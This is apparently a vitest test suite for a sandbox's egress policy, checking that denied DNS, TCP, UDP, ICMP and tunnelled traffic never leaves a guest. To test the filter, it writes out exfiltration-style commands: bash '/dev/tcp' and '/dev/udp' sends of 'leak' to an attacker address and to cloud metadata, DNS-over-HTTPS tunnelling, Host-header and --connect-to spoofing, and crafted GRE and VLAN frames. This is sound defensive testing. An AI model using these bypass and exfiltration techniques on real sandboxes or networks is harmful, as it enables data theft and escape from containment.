import { once } from "node:events";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { address6, ethernet, frame4, frame6, ip4, ip6, sendFrames, udp } from "./support/frames.ts";
import { at, makeWorld, type World } from "./support/internet.ts";

const mac = "02:00:00:00:00:02";
const own = "198.51.100.2";
const payload = Buffer.from("leak");

describe.skipIf(process.getuid?.() !== 0)("egress policy (needs root)", () => {
  let world: World;
  beforeAll(async () => {
    world = await makeWorld({ allow: ["example.com"] });
  });
  afterAll(() => world?.[Symbol.asyncDispose]());

  const curl = (...args: string[]) => world.guest("curl", "-ksS", "--max-time", "5", ...args);
  const names = (name: string, ...env: string[]) =>
    world.guest("env", ...env, "getent", "ahosts", name);
  /** Connects, sends a line and waits for it to come back. */
  const echo = (address: string, port: number) =>
    world.guest(
      "bash",
      "-c",
      `exec 3<>/dev/tcp/${address}/${port} && echo hello >&3 && timeout 5 head -n 1 <&3`,
    );
  const nothing = async (act: () => Promise<unknown>): Promise<void> => {
    expect(await world.onWire(act)).toEqual([]);
  };

  describe("by default deny", () => {
    beforeAll(() => world.setPolicy({ allow: ["example.com", "www.example.com:443"] }));

    it("leads a connection to an allowed name, by TLS and HTTP, IPv4 and IPv6", async () => {
      expect((await curl("-4", "https://example.com/")).stdout).toBe(
        `tls ${at.good} example.com\n`,
      );
      expect((await curl("-6", "https://example.com/")).stdout).toBe(
        `tls ${at.good6} example.com\n`,
      );
      expect((await curl("-4", "http://example.com/")).stdout).toBe(
        `http ${at.good} example.com\n`,
      );
      // Its name stands for another name, which is not asked for.
      expect((await curl("https://www.example.com/")).stdout).toBe(
        `tls ${at.cdn} www.example.com\n`,
      );
    });

    it("sends no DNS packet for a denied name, whatever server is asked, over UDP and TCP", async () => {
      await nothing(async () => {
        expect((await names("evil.test")).code).toBe(2);
        expect((await names("secret.example.com")).code).toBe(2);
        expect((await names("evil.test", "RES_OPTIONS=use-vc")).code).toBe(2);
        expect((await world.guest("busybox", "nslookup", "evil.test", at.attacker)).code).toBe(1);
        expect(
          (await world.guest("busybox", "nslookup", "-type=txt", "evil.test", at.dns)).code,
        ).toBe(1);
        expect((await world.guest("busybox", "nslookup", "evil.test", at.attacker6)).code).toBe(1);
      });
      // The same programs, for a name that is allowed.
      expect((await names("example.com", "RES_OPTIONS=use-vc")).stdout).toContain(at.good);
      expect(
        (await world.guest("busybox", "nslookup", "example.com", at.attacker)).stdout,
      ).toContain(at.good);
    });

    it("lets no packet to a denied address, by TCP, UDP or ping, IPv4 and IPv6", async () => {
      await nothing(async () => {
        for (const address of [at.attacker, at.metadata, at.dns, "10.1.2.3"]) {
          expect((await curl(`http://${address}:22/`)).code).toBe(7);
          expect((await curl(`http://${address}/`)).code).not.toBe(0);
          await world.guest("bash", "-c", `echo leak > /dev/udp/${address}/443`);
          expect((await world.guest("busybox", "ping", "-c", "1", "-W", "1", address)).code).toBe(
            1,
          );
        }
        expect((await curl(`http://[${at.attacker6}]:22/`)).code).toBe(7);
        await world.guest("bash", "-c", `echo leak > /dev/udp/${at.attacker6}/443`);
        expect(
          (await world.guest("busybox", "ping6", "-c", "1", "-W", "1", at.attacker6)).code,
        ).toBe(1);
        expect((await echo(at.dns, 22)).code).not.toBe(0);
      });
    });

    it("leads a forged name to the name's own address, and none to the forger's", async () => {
      const wire = await world.onWire(async () => {
        const { stdout } = await curl(
          "--connect-to",
          `example.com:443:${at.attacker}:443`,
          "https://example.com/",
        );
        expect(stdout).toBe(`tls ${at.good} example.com\n`);
        const plain = await curl(
          "--connect-to",
          `example.com:80:${at.attacker}:80`,
          "http://example.com/",
        );
        expect(plain.stdout).toBe(`http ${at.good} example.com\n`);
      });
      expect(wire).not.toEqual([]);
      expect(wire.filter((line) => line.includes(at.attacker))).toEqual([]);
    });

    it("refuses a denied name at an address that an allowed one has, and so DNS over HTTPS", async () => {
      await names("www.example.com");
      await nothing(async () => {
        const doh = [
          "-H",
          "accept: application/dns-json",
          "https://dns.cdn.test/dns-query?name=evil.test",
        ];
        expect((await curl("--resolve", `dns.cdn.test:443:${at.cdn}`, ...doh)).code).toBe(35);
        const host = ["-H", "host: evil.test", `http://${at.good}/`];
        expect((await curl(...host)).code).toBe(56);
        expect(
          (
            await curl(
              "--http2-prior-knowledge",
              "--resolve",
              `example.com:80:${at.good}`,
              "http://example.com/",
            )
          ).code,
        ).not.toBe(0);
      });
    });

    it("refuses an address in place of a name, and QUIC", async () => {
      await names("example.com");
      await nothing(async () => {
        expect((await curl(`https://${at.good}/`)).code).toBe(35);
        expect((await curl(`http://${at.good}/`)).code).toBe(56);
        await world.guest("bash", "-c", `echo quic > /dev/udp/${at.good}/443`);
      });
    });
  });

  it("opens an address when its name is asked for, and not before", async () => {
    await world.setPolicy({ allow: ["example.com:22"] });
    await nothing(async () => {
      expect((await echo(at.good, 22)).code).not.toBe(0);
    });
    await names("example.com");
    expect((await echo(at.good, 22)).stdout).toBe("hello\n");
    expect((await echo(at.cdn, 22)).code).not.toBe(0);
  });

  it("leaves private and metadata addresses out of what a name stands for, unless a rule opens them", async () => {
    await world.setPolicy({ allow: ["rebind.example.com:22"] });
    const addresses = async (): Promise<string[]> => {
      const { stdout } = await names("rebind.example.com");
      return [...new Set(stdout.split("\n").flatMap((line) => line.split(" ")[0] || []))].sort();
    };
    expect(await addresses()).toEqual([at.good]);
    expect((await echo(at.metadata, 22)).code).not.toBe(0);
    await world.setPolicy({ allow: ["rebind.example.com:22", "169.254.169.254", "10.99.0.1"] });
    expect(await addresses()).toEqual(["10.99.0.1", at.metadata, at.good].sort());
    expect((await echo(at.metadata, 22)).stdout).toBe("hello\n");
  });

  it("lets no frame through that is not the guest's own plain IP", async () => {
    await world.setPolicy({ allow: [at.attacker, at.attacker6] });
    const to = world.gatewayMac;
    const inner = udp(1000, 7, payload);
    const v6 = (last: number) => address6([0x2001, 0xdb8, 0x100, 0, 0, 0, 0, last]);
    const attacker6 = address6([0x2001, 0xdb8, 0x200, 0, 0, 0, 0, 0x66]);
    const good = ip4(own, at.attacker, 17, inner);
    expect(await world.onWire(() => sendFrames(world, [frame4(to, mac, good)]))).toEqual([
      expect.stringContaining(`${own}.1000 > ${at.attacker}.7`),
    ]);
    await nothing(() =>
      sendFrames(world, [
        // Another Ethernet address, other source addresses, also as if the answer came back here.
        frame4(to, "02:00:00:00:00:03", good),
        frame4(to, mac, ip4("198.51.100.3", at.attacker, 17, inner)),
        frame4(to, mac, ip4("203.0.113.10", at.attacker, 17, inner)),
        frame6(to, mac, ip6(v6(3), attacker6, 17, inner)),
        // IP in IP, IPv6 in IP, GRE, SCTP, and IP in IPv6.
        ...[4, 41, 47, 132].map((protocol) =>
          frame4(to, mac, ip4(own, at.attacker, protocol, good)),
        ),
        frame6(to, mac, ip6(v6(2), attacker6, 4, good)),
        // Behind a tag of a VLAN, and a type of its own.
        ethernet(to, mac, 0x8100, Buffer.concat([Buffer.from([0, 1, 8, 0]), good])),
        ethernet(to, mac, 0x88b5, payload),
        // ICMP that is no ping.
        frame4(to, mac, ip4(own, at.attacker, 1, Buffer.from([13, 0, 0xf2, 0xff, 0, 0, 0, 0]))),
      ]),
    );
  });

  it("keeps what is always denied closed by default allow, and what is denied by address and name", async () => {
    await world.setPolicy({
      default: "allow",
      deny: [`${at.attacker}`, "evil.test", "example.com"],
    });
    expect((await echo(at.good, 22)).stdout).toBe("hello\n");
    expect(
      (await curl("--resolve", `dns.cdn.test:443:${at.cdn}`, "https://dns.cdn.test/")).stdout,
    ).toBe(`tls ${at.cdn} dns.cdn.test\n`);
    await nothing(async () => {
      for (const address of [at.attacker, at.metadata, at.dns])
        expect((await echo(address, 22)).code).not.toBe(0);
      expect((await names("evil.test")).code).toBe(2);
      expect(
        (await curl("--resolve", `example.com:443:${at.good}`, "https://example.com/")).code,
      ).toBe(35);
    });
    await world.setPolicy({ default: "allow", allow: [`${at.metadata}:22`] });
    expect((await echo(at.metadata, 22)).stdout).toBe("hello\n");
  });

  it("lets in what comes to a published port, and answers to it out, but nothing else", async () => {
    await world.setPolicy({ default: "deny" });
    const served = world.guestSpawn("/usr/bin/python3", "-u", "-c", server);
    for await (const line of createInterface({ input: served.stdout ?? process.stdin }))
      if (line === "ready") break;
    expect(
      (await world.internet("curl", "-sS", "--max-time", "5", `http://${own}:8080/`)).stdout,
    ).toBe("served\n");
    expect(
      (await world.internet("curl", "-sS", "--max-time", "1", `http://${own}:8081/`)).code,
    ).toBe(28);
  });

  /** A client that sends and reads for as long as it can, and prints when it has begun and how it ended. */
  const talker = (address: string, port: number, name?: string) =>
    world.guestSpawn("/usr/bin/python3", "-u", "-c", client, address, String(port), name ?? "");

  it("ends open connections that a new policy does not allow, and leaves the others", async () => {
    const both = ["example.com:22", "example.com:8443/tls", `${at.cdn}:22`];
    await world.setPolicy({ allow: both });
    await names("example.com");
    const direct = talker(at.good, 22);
    const spliced = talker(at.good, 8443, "example.com");
    const stays = talker(at.cdn, 22);
    const lines = [direct, spliced, stays].map((child) =>
      createInterface({ input: child.stdout ?? process.stdin })[Symbol.asyncIterator](),
    );
    for (const each of lines) expect((await each.next()).value).toBe("open");
    // The port goes on to be another name's.
    await world.setPolicy({ allow: [`${at.cdn}:22`, "www.example.com:8443/tls"] });
    await Promise.all([direct, spliced].map((child) => child.exitCode ?? once(child, "exit")));
    // It goes on: what it sends after the change comes back.
    stays.stdin?.write("more\n");
    expect((await lines[2]?.next())?.value).toBe("more came back");
    stays.kill("SIGKILL");
  });

  it("writes its decisions down and counts them", async () => {
    await world.setPolicy({ allow: ["example.com", `${at.cdn}:22`] });
    await curl("-4", "https://example.com/");
    await names("evil.test");
    await echo(at.cdn, 22);
    await echo(at.attacker, 22);
    const wanted = [
      { verdict: "allow", kind: "dns", name: "example.com", rule: "example.com" },
      { verdict: "allow", kind: "tls", name: "example.com", address: at.good, port: 443 },
      { verdict: "deny", kind: "dns", name: "evil.test", rule: "default" },
      { verdict: "allow", kind: "packet", address: at.cdn, port: 22, rule: `${at.cdn}:22` },
      {
        verdict: "deny",
        kind: "packet",
        address: at.attacker,
        port: 22,
        protocol: "tcp",
        rule: "default",
      },
    ];
    await expect
      .poll(
        () =>
          readFileSync(join(world.folder, "egress/log.jsonl"), "utf8")
            .trim()
            .split("\n")
            .slice(-40)
            .map((line) => JSON.parse(line)),
        { timeout: 30_000 },
      )
      .toEqual(expect.arrayContaining(wanted.map((each) => expect.objectContaining(each))));
    const { decisions, rules: packets } = await world.status();
    expect(decisions["deny dns default"]).toBeGreaterThan(0);
    expect(packets).toContainEqual(
      expect.objectContaining({
        rule: `${at.cdn}:22`,
        verdict: "allow",
        packets: expect.any(Number),
      }),
    );
    expect(packets.find(({ rule }) => rule === `${at.cdn}:22`)?.packets).toBeGreaterThan(0);
  });

  it("runs its helper without rights but one, as a user of its own", async () => {
    const { pid, watcher } = await world.helper();
    expect(rightsOf(pid)).toEqual(rightsOf(watcher));
    const status = readFileSync(`/proc/${pid}/status`, "utf8");
    const field = (name: string) => new RegExp(`^${name}:\\s+(.*)$`, "m").exec(status)?.[1];
    // CAP_NET_ADMIN is number 12.
    expect([field("CapEff"), field("CapPrm"), field("CapBnd")]).toEqual(
      Array(3).fill("0000000000001000"),
    );
    expect(field("NoNewPrivs")).toBe("1");
    expect(Number(field("Uid")?.split("\t")[0])).toBeGreaterThanOrEqual(0x4000_0000);
  });

  it("lets nothing through when its helper is killed, also on open connections, until it runs again", async () => {
    await world.setPolicy({ allow: [`${at.cdn}`, "example.com"] });
    const open = talker(at.cdn, 22);
    const lines = createInterface({ input: open.stdout ?? process.stdin })[Symbol.asyncIterator]();
    expect((await lines.next()).value).toBe("open");
    await world.killHelper();
    await nothing(async () => {
      open.stdin?.write("leak\n");
      expect((await curl("https://example.com/")).code).toBe(6);
      expect(
        (await world.guest("timeout", "1", "bash", "-c", `echo leak > /dev/tcp/${at.cdn}/22`)).code,
      ).toBe(124);
      await world.guest("bash", "-c", `echo leak > /dev/udp/${at.cdn}/7`);
      await sendFrames(world, [
        frame4(world.gatewayMac, mac, ip4(own, at.cdn, 17, udp(1, 7, payload))),
      ]);
    });
    const log = () => readFileSync(join(world.folder, "egress/log.jsonl"), "utf8").split("\n", 1);
    const begins = log();
    await world.restart();
    // What another user has written stays, and goes on.
    expect(log()).toEqual(begins);
    expect((await curl("-4", "https://example.com/")).stdout).toBe(`tls ${at.good} example.com\n`);
    // What the policy allows goes on.
    expect((await lines.next()).value).toBe("leak came back");
    open.kill("SIGKILL");
  });

  it("has a helper that is there again when it is killed, with the policy that it was told last", async () => {
    await world.setPolicy({ allow: [at.good] });
    await world.setPolicy({ allow: ["example.com:443", at.cdn] });
    const open = talker(at.cdn, 22);
    const lines = createInterface({ input: open.stdout ?? process.stdin })[Symbol.asyncIterator]();
    expect((await lines.next()).value).toBe("open");
    const { pid, watcher } = await world.helper();
    const wire = await world.onWire(async () => {
      process.kill(pid, "SIGKILL");
      await expect
        .poll(async () => (await curl("-4", "https://example.com/")).stdout, { timeout: 50_000 })
        .toBe(`tls ${at.good} example.com\n`);
      expect((await echo(at.attacker, 22)).code).not.toBe(0);
      expect((await echo(at.good, 22)).code).not.toBe(0);
    });
    const others = wire.filter((line) => !line.includes(at.cdn));
    expect(others.filter((line) => / \S+\.22:|203\.0\.113\.66/.test(line))).toEqual([]);
    const now = await world.helper();
    expect(now.watcher).toBe(watcher);
    expect(now.pid).not.toBe(pid);
    open.stdin?.write("on\n");
    expect((await lines.next()).value).toBe("on came back");
    open.kill("SIGKILL");
  });
});

function rightsOf(pid: number): string[] {
  const lines = readFileSync(`/proc/${pid}/status`, "utf8").split("\n");
  return lines.filter((line) => /^(Uid|Gid|Groups|Cap...|NoNewPrivs):/.test(line));
}

const server = `
import http.server
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"served\\n")
serving = http.server.HTTPServer(("0.0.0.0", 8080), Page)
print("ready")
serving.serve_forever()
`;

const client = `
import select, socket, ssl, sys
address, port, name = sys.argv[1:]
link = socket.create_connection((address, int(port)))
if name:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    link = context.wrap_socket(link, server_hostname=name)
link.sendall(b".")
link.recv(1)
print("open")
while True:
    ready, _, _ = select.select([sys.stdin], [], [], 0.1)
    said = sys.stdin.readline().strip() if ready else "."
    link.sendall(said.encode())
    got = b""
    while len(got) < len(said):
        part = link.recv(4096)
        if not part:
            sys.exit("closed")
        got += part
    if said != ".":
        print(got.decode(), "came back")
`;
